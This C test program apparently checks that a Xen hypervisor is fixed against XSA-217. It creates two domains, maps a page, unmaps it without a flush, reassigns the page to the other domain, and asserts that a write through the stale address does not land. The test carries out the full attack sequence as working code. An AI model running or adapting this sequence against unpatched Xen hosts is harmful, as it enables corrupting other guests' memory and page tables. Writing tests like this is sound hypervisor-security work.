/* SPDX-License-Identifier: MIT */
/*
 * XSA-217: a page that goes to another domain while a third one can still write it.
 *
 * A domain that may map another's pages maps one, writable, and unmaps it without a flush: the
 * processor may keep the translation. Then the page's owner gives it away. Xen flushed for the owner's
 * own translations and not for the mapper's, where the owner was a hardware guest: the mapper could
 * write what was now a third domain's page, its page tables for example.
 *
 * There are no hardware guests here, but control domains map others' pages. This guest is one: it makes
 * two domains, the first with one page, maps the page, writes to it, takes the map away without a
 * flush, has the page leave its domain, and gives it to the second one. What it writes at the old
 * address must not arrive.
 *
 * Run: qemu bochs
 * Machine: mem=64
 */
#define __XEN_TOOLS__ 1
#include "../../attack.h"
#include "../../domctl.h"

#include <xen/memory.h>

#define ROUNDS 20
#define MOST 8192 /* pages taken until the one comes that was given up */

static domid_t create(void)
{
    memset(&ctl, 0, sizeof ctl);
    ctl.u.createdomain.max_vcpus = 1;
    ctl.u.createdomain.max_evtchn_port = 1023;
    ctl.u.createdomain.max_grant_frames = 4;
    ctl.u.createdomain.max_maptrack_frames = 4;
    ctl.u.createdomain.grant_opts = XEN_DOMCTL_GRANT_version(1);
    if (domctl(XEN_DOMCTL_createdomain, 0))
        panic("no domain can be made");
    return ctl.domain;
}

/* One frame for a domain. */
static uint32_t take_page(domid_t id)
{
    xen_pfn_t extent = 0;
    struct xen_memory_reservation r = {.nr_extents = 1, .domid = id};

    set_xen_guest_handle(r.extent_start, &extent);
    return hv_memory_op(XENMEM_increase_reservation, &r) == 1 ? extent : 0;
}

static bool give_up_page(domid_t id, uint32_t mfn)
{
    xen_pfn_t extent = mfn;
    struct xen_memory_reservation r = {.nr_extents = 1, .domid = id};

    set_xen_guest_handle(r.extent_start, &extent);
    return hv_memory_op(XENMEM_decrease_reservation, &r) == 1;
}

/* The frame that was given up, for d; the others on the way are given back. */
static bool get_that_page(domid_t d, uint32_t mfn)
{
    static uint32_t taken[MOST];
    uint32_t n = 0, got = 0;

    while (n < MOST && (got = take_page(d)) && got != mfn)
        taken[n++] = got;
    while (n)
        give_up_page(d, taken[--n]);
    return got == mfn;
}

static bool map(volatile pte_t *va, uint32_t mfn, domid_t d)
{
    return hv_update_va_mapping_otherdomain(va, pte_make(mfn, PAGE_KERNEL), UVMF_INVLPG, d) == 0;
}

/* True: what was written at the old address did not arrive in the page. */
static bool round(domid_t first, domid_t second, volatile pte_t *window, volatile pte_t *view)
{
    uint32_t mfn = take_page(first);
    bool safe;

    if (!mfn || !map(window, mfn, first))
        panic("the domain's page cannot be mapped");
    window[7] = 1;
    if (hv_update_va_mapping(window, 0, UVMF_NONE) || !give_up_page(first, mfn))
        panic("the page does not leave its domain");
    if (!get_that_page(second, mfn))
        panic("the page does not come to the other domain");
    try_write((void *)&window[7], 0x12345067);
    if (!map(view, mfn, second))
        panic("the other domain's page cannot be mapped");
    safe = view[7] == 0;
    if (hv_update_va_mapping(view, 0, UVMF_INVLPG) || !give_up_page(second, mfn))
        panic("the page does not leave the other domain");
    return safe;
}

int main(void)
{
    volatile pte_t *window = window_alloc(2), *view = window + 512;
    domid_t first = create(), second = create();
    uint32_t safe = 0;

    ctl.u.max_mem.max_memkb = MOST * 4;
    domctl(XEN_DOMCTL_max_mem, first);
    domctl(XEN_DOMCTL_max_mem, second);
    pte_machine_address((void *)window);
    pte_machine_address((void *)view);
    for (int i = 0; i < ROUNDS; i++)
        safe += round(first, second, window, view);
    tap_is(safe, ROUNDS, "the old address never leads to the page again");
    tap_is(domctl(XEN_DOMCTL_destroydomain, first), 0, "the first domain is destroyed");
    tap_is(domctl(XEN_DOMCTL_destroydomain, second), 0, "and the second");
    tap_audit();
    tap_done();
}
